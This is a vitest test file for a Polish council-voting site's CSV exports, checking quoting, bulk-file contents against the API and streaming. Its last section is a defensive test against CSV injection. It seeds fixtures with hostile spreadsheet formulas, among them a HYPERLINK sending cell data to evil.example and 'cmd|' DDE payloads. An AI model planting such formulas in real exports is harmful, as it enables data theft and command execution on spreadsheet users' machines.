// The CSV exports (src/exports/): RFC 4180 fields read back by a real parser, the bulk files of /dane/
// on the hand council (counted on paper) and on a generated two-council snapshot against the JSON API's
// own answers, scopes that do not exist, a reader that goes away, and the list writer's pages.

import { PassThrough, Writable } from 'node:stream';
import Database from 'better-sqlite3';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import request from './support/request.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RADOSKOP_CREDIT, SEJM_CREDIT } from '../core/credit.ts';
import { BULK_FILES, BulkExports, BulkScopeError, bulkColumns, bulkDescription } from '../src/exports/bulk.ts';
import { columnsOf, descriptionOf } from '../src/exports/columns.ts';
import { type CsvColumn, csvField, writeCsv } from '../src/exports/csv.ts';
import { writeListCsv } from '../src/exports/list.ts';
import { voteSummary } from '../src/answers/schemas.ts';
import { buildOpenApiDocument } from '../src/openapi.ts';
import { session } from '../src/posiedzenia/schemas.ts';
import { group } from '../src/utils/schemas.ts';
import { voteList } from '../src/site/lists.ts';
import { SITE_PAGES } from '../src/site/pages.ts';
import { listRoute } from '../src/urls/paths.ts';
import { OutputClosedError, TextWriter } from '../src/exports/text-writer.ts';
import { generateBundle } from '../tools/generate/index.ts';
import { writeBundle } from './support/bundle.ts';
import { appOver, buildDatabase, removeDir, tempDir, type TestApp } from './support/fixture.ts';
import { HAND_COUNCIL } from './support/hand-council.ts';
import type { Bundle } from './support/bundle.ts';

/** Collects what is written, as a response would receive it. */
function collector(): { out: PassThrough; text: () => string } {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  return { out, text: () => Buffer.concat(chunks).toString('utf8') };
}

type Record_ = Record<string, string>;
const readCsv = (text: string): Record_[] => parse<Record_>(text, { columns: true, record_delimiter: '\r\n' });

async function bulk(exports: BulkExports, file: (typeof BULK_FILES)[number], scope = {}) {
  const { out, text } = collector();
  const rows = await exports.write(file, scope, out);
  const records = readCsv(text());
  expect(records).toHaveLength(rows);
  return records;
}

const dirs: string[] = [];
let handDb: Database.Database;
let app: TestApp;
let genDb: Database.Database;

beforeAll(async () => {
  const handDir = tempDir();
  await writeBundle(handDir, HAND_COUNCIL);
  const genDir = tempDir();
  await generateBundle(genDir, { seed: 31, radni: 14, glosowania: 300, rady: 2 });
  dirs.push(handDir, genDir);
  handDb = new Database(await buildDatabase(handDir), { readonly: true });
  app = appOver(await buildDatabase(genDir), { RESPONSE_CACHE_MB: 0 });
  genDb = app.snapshots.active!.db;
});

afterAll(() => {
  handDb?.close();
  app?.close();
  dirs.forEach(removeDir);
});

describe('RFC 4180', () => {
  it('quotes only what must be quoted, doubles quotes, and keeps line breaks inside a field', () => {
    expect(csvField('Łąkowa')).toBe('Łąkowa');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('KWW "GRB"')).toBe('"KWW ""GRB"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(0)).toBe('0');
    expect(csvField(true)).toBe('1');
  });

  it('a parser reads back every value written, header first, CRLF line ends, no BOM', async () => {
    const values = [
      'zwykły',
      'z, przecinkiem',
      'z "cudzysłowem"',
      'dwie\nlinie',
      'dwie\r\nlinie',
      '',
      ' spacja ',
      'ąćęłńóśźż ĄĆĘŁŃÓŚŹŻ',
      'a=1+1',
    ];
    const columns: CsvColumn<string>[] = [
      { name: 'wartosc', description: '', value: (v) => v },
      { name: 'dlugosc', description: '', value: (v) => v.length },
    ];
    const { out, text } = collector();
    expect(await writeCsv(out, columns, [values.slice(0, 4), values.slice(4)])).toBe(values.length);
    expect(text().startsWith('wartosc,dlugosc\r\n')).toBe(true);
    expect(text().charCodeAt(0)).not.toBe(0xfeff);
    expect(text().endsWith('\r\n')).toBe(true);
    expect(readCsv(text())).toEqual(values.map((v) => ({ wartosc: v, dlugosc: String(v.length) })));
  });
});

describe('bulk files on the hand council', () => {
  it('votes in time order: V4 (date only, 00:00) first on 2015-03-10, V14 (tally-only) last', async () => {
    const votes = await bulk(new BulkExports(handDb), 'glosowania');
    // Date order is data_czas desc, id desc; read backwards: V4 (T00:00), V1 10:00, V2 and V3 (10:30, id asc), V5…V14.
    expect(votes.map((v) => Number(v['id_glosowania']))).toEqual([4, 1, 2, 3, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14]);
    expect(votes[0]).toMatchObject({
      data: '2015-03-10',
      godzina: '',
      kadencja: '2014-2018',
      organ: 'Rada Miasta',
      wynik: 'odrzucono',
      za: '1',
      przeciw: '2',
      brak_glosu: '1',
      kontrowersyjnosc: '67',
    });
    expect(votes[2]).toMatchObject({
      id_glosowania: '2',
      tytul: 'Zmiana budżetu',
      punkt_numer: '3',
      posiedzenie_numer: expect.any(String),
      wynik: 'odrzucono',
    });
  });

  it('every vote carries its own record: imienne, the stated tallies (…_zrodla) and the topic (CONTRACT §10, §11)', async () => {
    const votes = await bulk(new BulkExports(handDb), 'glosowania');
    const of = (id: number) => votes.find((v) => v['id_glosowania'] === String(id))!;
    const record = (id: number) => {
      const v = of(id);
      return [
        v['imienne'],
        v['za_zrodla'],
        v['przeciw_zrodla'],
        v['wstrzymujacy_zrodla'],
        v['nieobecni_zrodla'],
        v['brak_glosu_zrodla'],
        v['temat'],
      ];
    };
    expect(record(14)).toEqual(['0', '4', '0', '1', '', '', expect.any(String)]); // tally-only, stated 4/0/1
    expect(record(10)).toEqual(['1', '5', '1', '0', '0', '0', expect.any(String)]); // states 5:1 beside its 4:1
    expect(record(12)).toEqual(['1', '', '', '', '', '', expect.any(String)]); // states nothing
    const description = bulkColumns('glosowania').find((c) => c.name === 'za_zrodla')!.description;
    expect(description).toMatch(/według źródła.*liczby_zrodla\.za.*puste: źródło nie podaje/);
    expect(bulkColumns('glosowania').find((c) => c.name === 'imienne')!.description).toMatch(/^1: .*; 0: /);
  });

  it('every ballot, with the group at the vote: Łucja Wróbel is RdM on 2019-01-31 (V8) and FS from 2019-02-01 (V10)', async () => {
    const ballots = await bulk(new BulkExports(handDb), 'glosy');
    // V1–V4 4 each, V5–V8 5 each, V9 4, V10–V12 5 each, V13 1 (the table of hand-council.ts).
    expect(ballots).toHaveLength(4 * 4 + 5 * 4 + 4 + 5 * 3 + 1);
    const of = (vote: number, person: number) =>
      ballots.find((b) => b['id_glosowania'] === String(vote) && b['id_osoby'] === String(person));
    expect(of(8, 3)).toEqual({
      id_glosowania: '8',
      data: '2019-01-31',
      id_osoby: '3',
      imie_nazwisko: 'Łucja Wróbel',
      glos: 'za',
      id_ugrupowania: '1',
      ugrupowanie: 'Razem dla Miasta',
    });
    expect(of(10, 3)).toMatchObject({ glos: 'przeciw', id_ugrupowania: '2', ugrupowanie: 'Forum Samorządowe' });
    expect(of(9, 3)).toMatchObject({ glos: 'brak_glosu' });
    expect(of(5, 5)).toMatchObject({ glos: 'za', id_ugrupowania: '', ugrupowanie: '' }); // Anna Nowak (5) has no group
    // Within a vote, name order: V5 is Anna Nowak (1), Anna Nowak (5), Lech Mazur, Łucja Wróbel, Żaneta Kos.
    expect(ballots.filter((b) => b['id_glosowania'] === '5').map((b) => Number(b['id_osoby']))).toEqual([
      1, 5, 4, 3, 6,
    ]);
  });

  it('councillors with their figures in surname order, sessions with attendance, groups', async () => {
    const exports = new BulkExports(handDb);
    const councillors = await bulk(exports, 'radni');
    expect(councillors.map((c) => Number(c['id_osoby']))).toEqual([6, 2, 4, 1, 5, 3, 7]); // Kos, Lis, Mazur, Nowak, Nowak, Wróbel, Żuk
    // Łucja Wróbel, all terms: attendance 4/4; ballots V1–V12: za V1 V2 V4 V5 V8 V12 = 6, przeciw V3 V6 V7 V10 V11 = 5, brak V9 = 1.
    expect(councillors.find((c) => c['id_osoby'] === '3')).toMatchObject({
      imie_nazwisko: 'Łucja Wróbel',
      ugrupowanie: 'Forum Samorządowe',
      aktywny: '1',
      za: '6',
      przeciw: '5',
      wstrzymujacy: '0',
      nieobecny: '0',
      brak_glosu: '1',
      liczba_glosowan: '12',
      liczba_posiedzen: '4',
      obecnosci: '4',
      frekwencja_procent: '100.00',
    });
    // Zenon Lis: one attendance record (S1), absent.
    expect(councillors.find((c) => c['id_osoby'] === '2')).toMatchObject({
      liczba_posiedzen: '1',
      obecnosci: '0',
      frekwencja_procent: '0.00',
    });
    const sessions = await bulk(exports, 'posiedzenia');
    expect(sessions.map((s) => Number(s['id_posiedzenia']))).toEqual([1, 2, 3, 4]);
    expect(sessions[0]).toMatchObject({ obecni: '2', liczba_obecnosci: '3', frekwencja_procent: '66.67' }); // S1: 2 ✗ 3 ✓ 4 ✓
    const attendance = await bulk(exports, 'obecnosci');
    // With each person's ballots in V1–V4 and the nieobecny among them (CONTRACT §5): 2 Z P N B.
    expect(
      attendance
        .filter((a) => a['id_posiedzenia'] === '1')
        .map((a) => [a['id_osoby'], a['obecny'], a['glosowania'], a['nieobecny_w_glosowaniach']]),
    ).toEqual([
      ['4', '1', '4', '0'],
      ['3', '1', '4', '0'],
      ['2', '0', '4', '1'],
    ]);
    expect(attendance).toHaveLength(3 + 5 + 5 + 5); // S1 given, S2 and S3 derived, S4 given
    const groups = await bulk(exports, 'ugrupowania');
    // All terms, display memberships with aktywny 1: RdM 1 (Anna Nowak 1; Borys Żuk is aktywny 0), FS 3 (3, 4, 6; Zenon Lis aktywny 0).
    expect(groups.map((g) => [g['nazwa'], g['liczba_radnych']])).toEqual([
      ['Forum Samorządowe', '3'],
      ['Razem dla Miasta', '1'],
    ]);
  });

  it('refuses a scope that is not a council in a term', async () => {
    const exports = new BulkExports(handDb);
    const sink = new PassThrough();
    await expect(exports.write('glosy', { organ: 2, kadencja: '2018-2023' }, sink)).rejects.toThrow(
      new BulkScopeError('body 2 is a komisja, not a council (rada)'),
    );
    await expect(exports.write('glosy', { organ: 9, kadencja: '2018-2023' }, sink)).rejects.toThrow('no body 9');
    await expect(exports.write('glosy', { organ: 1, kadencja: '2030-2035' }, sink)).rejects.toThrow(
      'no term 2030-2035',
    );
    await expect(exports.write('glosy', { organ: 1 }, sink)).rejects.toThrow(/needs both/);
  });

  it('offers the whole snapshot and each council in each term', () => {
    expect(new BulkExports(handDb).scopes()).toEqual([
      { scope: {}, label: 'Wszystkie dane' },
      { scope: { organ: 1, kadencja: '2018-2023' }, label: 'Rada Miasta, kadencja 2018-2023' },
      { scope: { organ: 1, kadencja: '2014-2018' }, label: 'Rada Miasta, kadencja 2014-2018' },
    ]);
  });
});

describe('bulk files against the API on a generated two-council snapshot', () => {
  const api = async (path: string, query: Record<string, string> = {}) => {
    const res = await request(app.app).get(path).query(query);
    expect(res.status, path).toBe(200);
    return res.body;
  };

  it("each council's votes in each term are the API's list for organ and kadencja, oldest first", async () => {
    const exports = new BulkExports(genDb);
    const scopes = exports.scopes().slice(1);
    expect(scopes.length).toBe(4); // 2 councils × 2 terms
    let total = 0;
    for (const { scope } of scopes) {
      const ids = (await bulk(exports, 'glosowania', scope)).map((v) => Number(v['id_glosowania']));
      const listed: number[] = [];
      for (let page = 1; ; page++) {
        const body = await api('/api/glosowania', {
          organ: String(scope.organ),
          kadencja: scope.kadencja!,
          limit: '100',
          page: String(page),
        });
        listed.push(...body.data.map((v: { id_glosowania: number }) => v.id_glosowania));
        if (body.data.length < 100) break;
      }
      expect(ids).toEqual(listed.reverse());
      total += ids.length;
    }
    expect(total).toBe(
      genDb
        .prepare("SELECT count(*) FROM glosowanie g JOIN organ o ON o.id_organu = g.id_organu WHERE o.typ = 'rada'")
        .pluck()
        .get(),
    );
  });

  it("ballots are the API's distribution of each vote, group at the vote included", async () => {
    const exports = new BulkExports(genDb);
    const ballots = await bulk(exports, 'glosy');
    expect(ballots).toHaveLength(genDb.prepare('SELECT count(*) FROM glos').pluck().get() as number);
    const byVote = new Map<number, Record_[]>();
    for (const b of ballots)
      byVote.set(Number(b['id_glosowania']), [...(byVote.get(Number(b['id_glosowania'])) ?? []), b]);
    const ids = [...byVote.keys()];
    for (const id of ids.filter((_, i) => i % 15 === 0)) {
      const body = await api(`/api/glosowania/${id}/glosy`);
      // The file's columns of each entry (the API's also name the voter's council, issue 36).
      const entries = (body.data as Array<Record<string, unknown>>).map(
        ({ glos, id_osoby, imie_nazwisko, ugrupowanie }) => ({ glos, id_osoby, imie_nazwisko, ugrupowanie }),
      );
      expect(
        byVote.get(id)!.map((b) => ({
          glos: b['glos'],
          id_osoby: Number(b['id_osoby']),
          imie_nazwisko: b['imie_nazwisko'],
          ugrupowanie: b['ugrupowanie'] || null,
        })),
        String(id),
      ).toEqual(entries);
    }
  });

  it("a council's councillors are everyone with a ballot or attendance record there, with the API's figures", async () => {
    const exports = new BulkExports(genDb);
    for (const { scope } of exports.scopes().slice(1)) {
      const rows = await bulk(exports, 'radni', scope);
      const expected = genDb
        .prepare('SELECT id_osoby FROM radny_organ WHERE kadencja = ? AND id_organu = ?')
        .pluck()
        .all(scope.kadencja, scope.organ) as number[];
      expect(rows.map((r) => Number(r['id_osoby'])).sort((a, b) => a - b)).toEqual(expected.sort((a, b) => a - b));
      for (const row of rows.slice(0, 4)) {
        const attendance = (await api(`/api/radni/${row['id_osoby']}/frekwencja`, { kadencja: scope.kadencja! })).data;
        const agreement = (await api(`/api/radni/${row['id_osoby']}/zgodnosc-grupa`, { kadencja: scope.kadencja! }))
          .data;
        expect(row['frekwencja_procent']).toBe(attendance.frekwencja_procent.toFixed(2));
        expect(Number(row['obecnosci'])).toBe(attendance.obecnosci);
        expect(row['zgodnosc_procent']).toBe(agreement.zgodnosc_procent.toFixed(2));
      }
      // Positions within the council: 1..n, each once, as the API's ranking with organ.
      const ranking = (
        await api('/api/statystyki/ranking-frekwencji', {
          organ: String(scope.organ),
          kadencja: scope.kadencja!,
          min_posiedzen: '0',
          limit: '100',
        })
      ).data;
      expect(rows.length).toBeLessThanOrEqual(100);
      const position = new Map(rows.map((r) => [Number(r['id_osoby']), Number(r['pozycja_frekwencja'])]));
      for (const item of ranking as Array<{ pozycja: number; id_osoby: number }>)
        expect(position.get(item.id_osoby)).toBe(item.pozycja);
    }
  });

  it("groups of the whole snapshot count members as the API's lookup does", async () => {
    const groups = await bulk(new BulkExports(genDb), 'ugrupowania');
    const lookup = (await api('/api/utils/ugrupowania')).data as Array<{
      id_ugrupowania: number;
      liczba_radnych: number;
    }>;
    expect(groups.map((g) => [Number(g['id_ugrupowania']), Number(g['liczba_radnych'])])).toEqual(
      lookup.map((g) => [g.id_ugrupowania, g.liczba_radnych]),
    );
  });

  it('describes every column of every file, with the credit and its licence', () => {
    const text = bulkDescription(RADOSKOP_CREDIT, '2026-11-24T03:00:00Z', '2026-11-20');
    expect(text).toContain('Źródło: Dane: Radoskop, na podstawie Biuletynów Informacji Publicznej rad, CC BY 4.0');
    expect(text).toContain('Licencja danych: CC BY 4.0');
    for (const file of BULK_FILES)
      for (const column of bulkColumns(file)) expect(text).toContain(`  ${column.name}: ${column.description}`);
    expect(bulkDescription(SEJM_CREDIT, 'x', null)).toContain('Źródło nie podaje licencji');
    expect(bulkDescription({ ...SEJM_CREDIT, synthetic: true }, 'x', null)).toContain('przykład syntetyczny');
  });
});

describe('a reader that goes away', () => {
  it('stops the export with OutputClosedError instead of reading on', async () => {
    let received = 0;
    const slow = new Writable({
      highWaterMark: 16 * 1024,
      write(chunk: Buffer, _encoding, done) {
        received += chunk.length;
        if (received > 200_000) this.destroy();
        setImmediate(done);
      },
    });
    await expect(new BulkExports(genDb).write('glosy', {}, slow)).rejects.toThrow(OutputClosedError);
    expect(received).toBeLessThan(400_000);
  });
});

describe('the text writer', () => {
  /** What `texts` written through a TextWriter of `chunkBytes` hand to the stream, chunk by chunk. */
  async function written(texts: string[], chunkBytes: number) {
    const { out, text } = collector();
    const chunks: number[] = [];
    out.on('data', (c: Buffer) => chunks.push(c.length));
    const writer = new TextWriter(out, chunkBytes);
    for (const t of texts) await writer.write(t);
    await writer.flush();
    return { text: text(), chunks };
  }

  it('sends exactly the UTF-8 of what was written, whatever the chunk and the characters (property)', async () => {
    // Polish letters (two bytes), „quotes” (three), an emoji (a surrogate pair, four), and texts longer than a chunk.
    const piece = fc.oneof(
      fc.string({ unit: fc.constantFrom('a', 'ż', 'Ł', '„', '”', '😀', ',', '\r\n'), maxLength: 40 }),
      fc.string({ unit: fc.constantFrom('x', 'ą'), minLength: 50, maxLength: 300 }),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(piece, { maxLength: 60 }),
        fc.integer({ min: 1, max: 64 }),
        async (texts, chunkBytes) => {
          const { text, chunks } = await written(texts, chunkBytes);
          expect(text).toBe(texts.join(''));
          // A chunk goes out once it holds chunkBytes; only a text longer than a chunk's room goes out bigger.
          const longest = Math.max(0, ...texts.map((t) => Buffer.byteLength(t)));
          for (const bytes of chunks) expect(bytes).toBeLessThanOrEqual(Math.max(2 * chunkBytes, longest));
        },
      ),
      { seed: 4141, numRuns: 300 },
    );
  });

  it('holds one chunk: rows go out as each chunk fills, not at the end', async () => {
    const row = 'Żaneta Nowak,za\r\n'; // 18 bytes
    const { chunks } = await written(
      Array.from({ length: 1000 }, () => row),
      1024,
    );
    expect(chunks.length).toBeGreaterThanOrEqual(17);
    expect(chunks.slice(0, -1).every((bytes) => bytes >= 1024 && bytes < 1024 + 18)).toBe(true);
  });
});

describe('the list writer', () => {
  const columns: CsvColumn<number>[] = [{ name: 'n', description: '', value: (n) => n }];
  const list = (size: number) => {
    const reads: number[] = [];
    const read = (page: number, limit: number) => {
      reads.push(page);
      return {
        items: Array.from(
          { length: Math.max(0, Math.min(limit, size - (page - 1) * limit)) },
          (_, i) => (page - 1) * limit + i,
        ),
        total: size,
      };
    };
    return { read, reads };
  };

  it('writes every page of the list in order, and reads no page past the end', async () => {
    for (const [size, pages] of [
      [0, [1]],
      [1, [1]],
      [500, [1]],
      [501, [1, 2]],
      [1234, [1, 2, 3]],
    ] as const) {
      const { read, reads } = list(size);
      const { out, text } = collector();
      expect(await writeListCsv(out, columns, read, 500)).toBe(size);
      expect(readCsv(text()).map((r) => Number(r['n']))).toEqual(Array.from({ length: size }, (_, i) => i));
      expect(reads, String(size)).toEqual(pages);
    }
  });
});

describe('formulas in the data (OWASP CSV injection, issue 34)', () => {
  /** Texts a spreadsheet would run, in every kind of text column of the hand council. */
  const FORMULAS = {
    title: '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")', // vote 1
    name: "+cmd|' /C calc'!A0", // councillor 1
    group: "-2+3+cmd|' /C calc'!A0", // group 1
    body: "@SUM(1+1)*cmd|' /C calc'!A0", // body 1
    session: '\t=1+1', // session 1's number
    sessionName: '\r=1+1', // session 2's name
    otherTitle: '＝1+1', // vote 2 (a full-width equals sign)
  };
  const STARTS_FORMULA = /^[=+\-@\t\r＝＋－＠]/;
  let hostile: TestApp;

  beforeAll(async () => {
    const bundle = JSON.parse(JSON.stringify(HAND_COUNCIL)) as Bundle;
    const edit = (file: string, key: string, id: number, values: Record<string, string>) =>
      Object.assign(
        bundle[file]!.find((r) => r[key] === id)!,
        values,
      );
    edit('glosowania.csv', 'id_glosowania', 1, { tytul: FORMULAS.title });
    edit('radni.csv', 'id_osoby', 1, { imie_nazwisko: FORMULAS.name });
    edit('ugrupowania.csv', 'id_ugrupowania', 1, { nazwa: FORMULAS.group });
    edit('organy.csv', 'id_organu', 1, { nazwa: FORMULAS.body });
    edit('posiedzenia.csv', 'id_posiedzenia', 1, { numer: FORMULAS.session });
    edit('posiedzenia.csv', 'id_posiedzenia', 2, { nazwa: FORMULAS.sessionName });
    edit('glosowania.csv', 'id_glosowania', 2, { tytul: FORMULAS.otherTitle });
    const dir = tempDir();
    dirs.push(dir);
    await writeBundle(dir, bundle);
    hostile = appOver(await buildDatabase(dir), { RESPONSE_CACHE_MB: 0 });
  });

  afterAll(() => hostile?.close());

  it('csvField puts an apostrophe before a text that starts a formula; numbers and other texts stay as they are', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    expect(csvField(FORMULAS.title)).toBe(`"'${FORMULAS.title.replaceAll('"', '""')}"`);
    expect(csvField(-1)).toBe('-1');
    expect(csvField('a-1')).toBe('a-1');
    expect(csvField(' =1')).toBe(' =1');
  });

  it('no field of any CSV of the site (the bulk files of /dane/, every list) starts a formula; each text is there, neutralised', async () => {
    const token = (await request(hostile.app).get('/api/radni/1')).body.data.token as string;
    // Every list's required query (a search's words, the two compared) and both forms of every file.
    const queryOf = (route: string) =>
      route.startsWith('/szukaj/') ? '?szukaj=a' : route.startsWith('/porownaj/') ? '?radny=1&drugi=2' : '';
    const urls = [
      ...BULK_FILES.map((file) => `/dane/${file}.csv`),
      ...BULK_FILES.map((file) => `/dane/1/2014-2018/${file}.csv`),
      ...SITE_PAGES.flatMap((page) => Object.keys(page.downloads ?? {}).map((name) => listRoute(page.route, name))).map(
        (route) => route.replace(':token', token).replace(':id2', '2').replace(':id', '1') + queryOf(route),
      ),
    ].flatMap((url) => [url, url.replace(/\.csv(?=\?|$)/, '.arkusz.csv')]);
    const seen = new Set<string>();
    for (const url of urls) {
      const res = await request(hostile.app).get(url);
      expect(res.status, url).toBe(200);
      const records: string[][] = parse(res.text, {
        record_delimiter: '\r\n',
        bom: true,
        delimiter: url.includes('.arkusz.csv') ? ';' : ',',
      });
      for (const record of records) {
        for (const field of record) {
          expect(
            STARTS_FORMULA.test(field) && !/^-\d+([.,]\d+)?$/.test(field),
            `${url}: ${JSON.stringify(field)}`,
          ).toBe(false);
          if (field.startsWith("'")) seen.add(field.slice(1));
        }
      }
    }
    for (const [where, text] of Object.entries(FORMULAS))
      expect(seen.has(text), `${where}: ${JSON.stringify(text)}`).toBe(true);
  });

  it('/dane/ and its opis.txt say so', async () => {
    const page = await request(hostile.app).get('/dane/');
    expect(page.text).toContain('ma na początku apostrof');
    const opis = await request(hostile.app).get('/dane/opis.txt');
    expect(opis.text).toContain('ma na początku apostrof');
  });
});
describe('CSV columns are described by the API response schemas', () => {
  it('a column named after a field says what OpenAPI says of it, in the bulk files and the lists alike', () => {
    const components = buildOpenApiDocument().components.schemas;
    const documented = (component: string, field: string) =>
      (components[component]!['properties'] as Record<string, { description?: string }>)[field]!.description;
    const described = (columns: ReadonlyArray<CsvColumn<never>>, name: string) =>
      columns.find((c) => c.name === name)!.description;
    expect(described(bulkColumns('glosowania'), 'tytul')).toBe(documented('VoteSummary', 'tytul'));
    expect(described(voteList.columns, 'tytul')).toBe(documented('VoteSummary', 'tytul'));
    expect(described(bulkColumns('posiedzenia'), 'frekwencja_procent')).toBe(
      documented('Session', 'frekwencja_procent'),
    );
    expect(described(bulkColumns('ugrupowania'), 'pelna_nazwa')).toBe(descriptionOf(group.shape.pelna_nazwa));
  });

  it('looks through a nullable field, lets a list say its own, and refuses a column nobody describes', () => {
    const columns = columnsOf<{ godzina: string | null; nazwa: string | null }>(session, ['nazwa'], {});
    expect(columns[0]!.description).toBe(descriptionOf(session.shape.nazwa));
    expect(columns[0]!.value({ godzina: null, nazwa: 'I sesja' })).toBe('I sesja');
    expect(columnsOf(voteSummary, ['godzina'], { godzina: { description: 'own' } })[0]!.description).toBe('own');
    expect(() => columnsOf(voteSummary, ['nie_ma'])).toThrow(/CSV column nie_ma: no field nie_ma/);
  });
});
